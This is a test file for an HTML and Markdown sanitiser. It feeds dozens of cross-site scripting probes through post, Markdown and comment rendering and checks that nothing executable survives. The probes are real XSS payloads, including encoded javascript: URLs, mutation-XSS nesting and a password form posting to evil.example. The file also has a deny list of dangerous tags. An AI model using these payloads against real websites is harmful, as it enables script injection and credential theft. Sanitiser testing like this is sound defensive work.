import { toHtml } from 'hast-util-to-html'
import { expect, test } from 'vitest'
import { elementsOf } from '../../src/core/html/elements.ts'
import { parseHtml } from '../../src/core/html/parse-html.ts'
import { renderComment } from '../../src/publish/content/body/render-body.ts'
import { htmlOfHtml, htmlOfMarkdown } from './content-folder.ts'

const dangerous =
  /^(script|style|template|noscript|iframe|frame|object|embed|applet|svg|math|form|input|textarea|select|button|base|link|meta|video|audio)$/
const safeAddress = /^(https?:|mailto:|data:image\/|[^:]*$)/

/** Everything in the HTML that could run, load or reach outside the text. */
function dangersIn(html: string): string[] {
  const tree = parseHtml(html)
  const found: string[] = []
  for (const { tagName, properties } of elementsOf(tree)) {
    if (dangerous.test(tagName)) found.push(tagName)
    for (const [name, value] of Object.entries(properties)) {
      if (/^(on.*|style|name|srcDoc|action|formAction|target|ping)$/i.test(name)) found.push(name)
      if (/^(href|src|cite|xLinkHref|background|poster|data)$/.test(name))
        if (!safeAddress.test(String(value).trim())) found.push(`${name}=${value}`)
    }
  }
  // What a second reading would understand otherwise could hide anything.
  if (toHtml(tree) !== html) found.push('unstable HTML')
  return found
}

const probes = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<img src=x.png onerror=alert(1)>',
  '<img/src="https://example.org/a.png"/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="javascript:alert(1)">',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<style>body { background: url("https://evil.example") }</style>',
  '<p style="background: url(javascript:alert(1)); position: fixed">x</p>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<svg onload="alert(1)"><script>alert(1)</script><a href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<video src="javascript:alert(1)" onplay=alert(1)><source onerror=alert(1)></video>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<p title="--><script>alert(1)</script>">x<!-- <img src=x onerror=alert(1)> --!><b>y</b>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
  '<img name="body"><a name="cookie" id="cookie">x</a>',
  '<a href="x" target="_blank" ping="https://evil.example">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<constructor onclick=alert(1)>x</constructor>',
]

test.each(probes)('nothing in a post runs: %s', async (probe) => {
  expect(dangersIn(await htmlOfHtml(probe))).toEqual([])
})

test.each(probes)('nothing in Markdown runs: %s', async (probe) => {
  expect(dangersIn(await htmlOfMarkdown(`Words ${probe}\n\n${probe}\n`))).toEqual([])
})

test.each(probes)('nothing in a comment runs: %s', (probe) => {
  expect(dangersIn(renderComment(probe, (href) => href))).toEqual([])
})

test.each([
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n[x]',
  '<javascript:alert(1)>',
  '```"><script>alert(1)</script>\ncode\n```',
])('nothing written as Markdown runs: %s', async (text) => {
  expect(dangersIn(await htmlOfMarkdown(text))).toEqual([])
})

test('the probes are dangerous before they are sanitised', () => {
  const harmless = probes.filter((probe) => dangersIn(probe).length === 0)
  expect(harmless).toEqual([])
})

/** Of several times the length, a text takes as many times as long, or the test is never done. */
const long = ' '.repeat(400_000)
test.each([
  [`<img width="1${long}x">`],
  [`<iframe src="${long.replaceAll(' ', '#')}&#10;x"></iframe>`],
])('no attribute of a comment holds a build up: %.20s', (html) => {
  expect(renderComment(html, (href) => href).length).toBeLessThan(2 * html.length)
})
